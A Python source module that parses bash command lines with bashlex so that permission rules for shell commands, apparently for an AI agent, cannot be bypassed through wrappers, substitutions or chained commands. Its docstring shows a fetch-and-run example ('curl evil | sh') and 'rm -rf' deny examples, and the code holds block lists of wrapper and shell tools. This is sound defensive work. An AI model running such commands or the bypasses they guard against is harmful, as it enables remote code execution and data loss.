"""Shell commands, parsed rather than prefix-matched, so rules cannot be talked past.

A ``Bash(npm run test:*)`` rule allows a command only if *every* simple command
in it is allowed: ``npm run test && curl evil | sh`` is two more commands the
rule says nothing about. The command is parsed with bashlex (a port of bash's
own grammar), and anything whose effect a prefix rule cannot vouch for is
**never** auto-allowed (fail closed): command or process substitution,
subshells and compound commands, parameter expansion in a command name,
``eval`` and ``sh -c``, wrappers that run another command (``env``, ``xargs``,
``nohup``, ``timeout``, ``sudo``...), ``find -exec/-execdir/-ok/-delete``,
``git -c``/``--exec-path``, variable assignments in front of a command,
output redirection to a file, and anything that does not parse.

Deny rules work the other way: they look *inside* wrappers (``bash -c``,
``env X=1 rm``, ``timeout 5 rm``) so a denied command is found wherever it is.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import attrs

__all__ = ["ParsedCommand", "SimpleCommand", "parse_command"]

WRAPPERS = frozenset(
    {
        "env",
        "xargs",
        "nohup",
        "timeout",
        "sudo",
        "doas",
        "su",
        "nice",
        "ionice",
        "stdbuf",
        "time",
        "command",
        "builtin",
        "exec",
        "chroot",
        "watch",
        "parallel",
        "unbuffer",
        "setsid",
        "strace",
        "ltrace",
        "flock",
        "script",
        "busybox",
    }
)
SHELLS = frozenset({"bash", "sh", "zsh", "dash", "ksh", "fish", "eval", "source", "."})
SAFE_REDIRECT_TARGETS = frozenset({"/dev/null", "/dev/stdout", "/dev/stderr"})


@attrs.frozen
class SimpleCommand:
    """One command with its words after quote removal, and why it cannot be auto-allowed."""

    words: tuple[str, ...]
    unsafe: str | None = None
    """Why no prefix rule may allow this command (None: rules decide)."""


@attrs.frozen
class ParsedCommand:
    """Every simple command in a command line; ``error`` if it did not parse."""

    commands: tuple[SimpleCommand, ...]
    error: str | None = None

    @property
    def auto_allowable(self) -> bool:
        return self.error is None and all(c.unsafe is None for c in self.commands)


def _has_expansion(node: Any) -> str | None:
    """The kind of expansion inside a word node, if any."""
    for part in getattr(node, "parts", None) or ():
        kind = part.kind
        if kind == "commandsubstitution":
            return "command substitution"
        if kind == "processsubstitution":
            return "process substitution"
        if kind == "parameter":
            return "parameter expansion"
        nested = _has_expansion(part)
        if nested:
            return nested
    return None


def _word_unsafe(words: list[str]) -> str | None:
    name = words[0]
    if "/" in name:
        return f"runs {name} by path (it may not be the program a rule names)"
    if name in SHELLS:
        return f"{name} runs another command line"
    if name in WRAPPERS:
        return f"{name} runs another command"
    if name == "find" and any(
        w in ("-exec", "-execdir", "-ok", "-okdir", "-delete", "-fprint", "-fprintf", "-fls")
        for w in words[1:]
    ):
        return "find with -exec/-delete runs or deletes things"
    if name == "git":
        for word in words[1:]:
            if word == "-c" or word.startswith(("--exec-path", "--config-env", "-c=")):
                return f"git {word} can run arbitrary commands"
            if not word.startswith("-"):
                break
    return None


def _command_from_node(node: Any, out: list[SimpleCommand], inner: bool) -> None:
    words: list[str] = []
    unsafe: str | None = None
    for part in node.parts:
        kind = part.kind
        if kind == "word":
            expansion = _has_expansion(part)
            if expansion:
                unsafe = unsafe or f"uses {expansion}"
                for sub in _substitutions(part):
                    _walk(sub, out, inner=True)
            words.append(part.word)
        elif kind == "assignment":
            unsafe = unsafe or f"sets {part.word.split('=', 1)[0]} for the command"
        elif kind == "redirect":
            target: Any = getattr(part, "output", None)
            to_word = getattr(target, "kind", None) == "word"
            writes = part.type in (">", ">>", ">|", "&>", ">&")
            safe_target = to_word and (
                target.word in SAFE_REDIRECT_TARGETS or target.word.isdigit()
            )
            if to_word and writes and not safe_target:
                unsafe = unsafe or f"writes to {target.word}"
            if to_word and _has_expansion(target):
                unsafe = unsafe or "redirects to an expanded path"
    if not words:
        out.append(SimpleCommand(words=(), unsafe=unsafe or "no command"))
        return
    unsafe = unsafe or _word_unsafe(words)
    if inner:
        unsafe = unsafe or "runs inside a substitution"
    out.append(SimpleCommand(words=tuple(words), unsafe=unsafe))


def _substitutions(node: Any) -> Iterator[Any]:
    for part in getattr(node, "parts", None) or ():
        if part.kind in ("commandsubstitution", "processsubstitution"):
            yield part.command
        else:
            yield from _substitutions(part)


def _walk(node: Any, out: list[SimpleCommand], inner: bool = False) -> None:
    kind = node.kind
    if kind == "command":
        _command_from_node(node, out, inner)
    elif kind in ("list", "pipeline"):
        for part in node.parts:
            if part.kind not in ("operator", "pipe"):
                _walk(part, out, inner)
    elif kind == "compound":
        # Subshells, groups, loops and conditionals: their commands are collected
        # (deny rules see them) but none may be auto-allowed.
        collected: list[SimpleCommand] = []
        for part in node.list:
            if part.kind not in ("reservedword", "operator"):
                _walk(part, collected, inner)
        out.extend(
            attrs.evolve(c, unsafe=c.unsafe or "runs in a subshell or compound command")
            for c in collected
        )
        if not collected:
            out.append(SimpleCommand(words=(), unsafe="compound command"))
    elif kind in ("for", "if", "while", "until", "function", "case"):
        collected = []
        for part in node.parts:
            if part.kind in ("list", "command", "pipeline", "compound"):
                _walk(part, collected, inner)
        out.extend(attrs.evolve(c, unsafe=c.unsafe or f"runs inside {kind}") for c in collected)
        out.append(SimpleCommand(words=(), unsafe=f"{kind} construct"))
    else:
        out.append(SimpleCommand(words=(), unsafe=f"unsupported shell construct {kind}"))


def parse_command(command: str) -> ParsedCommand:
    """All simple commands of ``command``; a parse failure is an ``error``, never an exception."""
    import bashlex  # imported on first use: start-up stays fast for runs without Bash
    import bashlex.errors

    try:
        trees = bashlex.parse(command)
    except (
        bashlex.errors.ParsingError,
        NotImplementedError,
        IndexError,
        AttributeError,
        TypeError,
    ) as exc:
        return ParsedCommand(commands=(), error=f"could not parse the command ({exc})")
    out: list[SimpleCommand] = []
    for tree in trees:
        _walk(tree, out)
    if not out:
        return ParsedCommand(commands=(), error="empty command")
    return ParsedCommand(commands=tuple(out))


def unwrap_for_deny(words: tuple[str, ...]) -> list[tuple[str, ...]]:
    """The commands a denied rule must also be checked against: wrappers peeled off.

    ``timeout 5 rm -rf x`` -> ``rm -rf x``; ``bash -c "rm x; ls"`` -> ``rm x``, ``ls``;
    ``env A=1 rm x`` -> ``rm x``.
    """
    found: list[tuple[str, ...]] = [words]
    rest = list(words)
    while rest:
        name = rest[0].rsplit("/", 1)[-1]
        if name in ("bash", "sh", "zsh", "dash", "ksh") and "-c" in rest[1:]:
            index = rest.index("-c")
            if index + 1 < len(rest):
                for inner in parse_command(rest[index + 1]).commands:
                    found.extend(unwrap_for_deny(inner.words))
            break
        if name == "eval":
            for inner in parse_command(" ".join(rest[1:])).commands:
                found.extend(unwrap_for_deny(inner.words))
            break
        if name in WRAPPERS or name == "xargs":
            rest = rest[1:]
            # skip the wrapper's own options and arguments: VAR=value, -flags, durations
            while rest and (
                rest[0].startswith("-") or "=" in rest[0] or rest[0].replace(".", "").isdigit()
            ):
                rest = rest[1:]
            if rest:
                found.append(tuple(rest))
            continue
        if name == "find":
            for flag in ("-exec", "-execdir", "-ok", "-okdir"):
                if flag in rest:
                    tail = rest[rest.index(flag) + 1 :]
                    tail = tail[: tail.index(";")] if ";" in tail else [w for w in tail if w != "+"]
                    if tail:
                        found.append(tuple(tail))
        break
    return found
